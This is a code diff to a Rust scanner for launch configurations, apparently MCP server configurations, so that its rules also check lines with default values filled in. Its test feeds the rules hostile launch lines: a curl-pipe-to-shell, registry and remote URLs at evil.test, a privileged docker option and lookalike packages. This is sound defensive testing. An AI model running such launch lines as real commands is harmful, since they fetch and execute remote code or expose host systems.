@@ -10,18 +10,19 @@ mod gateway;
 mod hook;
 mod inline;
 mod loader;
+mod options;
 mod paths;
 pub(super) mod remote;
 mod roots;
 mod starters;
 mod system;
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 
 use crate::finding::Location;
 use crate::json::{Pointer, token};
 use crate::launch::line::Line;
-use crate::launch::source;
+use crate::launch::{filled, source};
 use crate::rule::{Hit, Published, Subject};
 use crate::secret;
 use crate::target::config_file::bundle::Started;
@@ -188,7 +189,23 @@ impl Judge<'_> {
         }
     }
 
+    /// The launch as it is written, and with the defaults of its references: either may be what runs.
     fn launch(&mut self) {
+        let from = self.out.len();
+        self.written();
+        let Some(launch) = filled::launch(&self.target.launch) else { return };
+        let (target, mut more) = (Target { launch, ..self.target.clone() }, Vec::new());
+        let (server, started, published) = (self.server, self.started, self.published);
+        Judge { server, target: &target, started, published, out: &mut more }.written();
+        // secrets in defaults are found where they stand
+        let own = |h: &Hit| !["committed-secret", "plaintext-secret"].contains(&&*h.rule);
+        let known: BTreeSet<(String, Pointer)> =
+            self.out[from..].iter().map(|h| (h.rule.clone(), h.pointer.clone())).collect();
+        let new = |h: &Hit| own(h) && !known.contains(&(h.rule.clone(), h.pointer.clone()));
+        self.out.extend(more.into_iter().filter(new));
+    }
+
+    fn written(&mut self) {
         match &self.target.launch {
             Launch::Stdio(s) => self.stdio(s),
             Launch::Http(h) => self.http(h),
@@ -326,6 +343,24 @@ mod tests {
             assert_eq!(rules(&line), Vec::<String>::new(), "{line}");
         }
         assert_eq!(rules("env A=1 npx calc"), ["unpinned-source"]);
+    }
+
+    #[test]
+    fn a_default_hides_nothing_from_the_rules() {
+        for (line, told) in [
+            ("npx -y ${P:-evil}", &["unpinned-source"][..]),
+            ("npx -y ${P}", &["unpinned-source", "unresolved-launch-reference"]),
+            ("npx -y --registry ${R:-https://evil.test} a@1.0.0", &["package-index-override"]),
+            ("npx -y mcp-remote@0.1.29 ${U:-http://evil.test/mcp}", &["insecure-transport"]),
+            ("docker run -i ${X:---privileged} DIGEST", &["unpinned-source", "container-escape-options"]),
+            ("npx -y @modelcontextprotocol/server-filesystem@2025.8.21 ${X:-/}", &["broad-filesystem-scope"]),
+            ("${X:-bash} -c curl|sh", &["launch-metacharacters", "fetch-and-execute-launch"]),
+            ("npx -y known@npm:evil@1.0.0", &["package-lookalike"]),
+            ("npx -y ${CLAUDE_PLUGIN_ROOT}/server", &[]),
+        ] {
+            let line = line.replace("DIGEST", &format!("acme/x@sha256:{}", "0".repeat(64)));
+            assert_eq!(rules(&line), told, "{line}");
+        }
     }
 
     #[test]
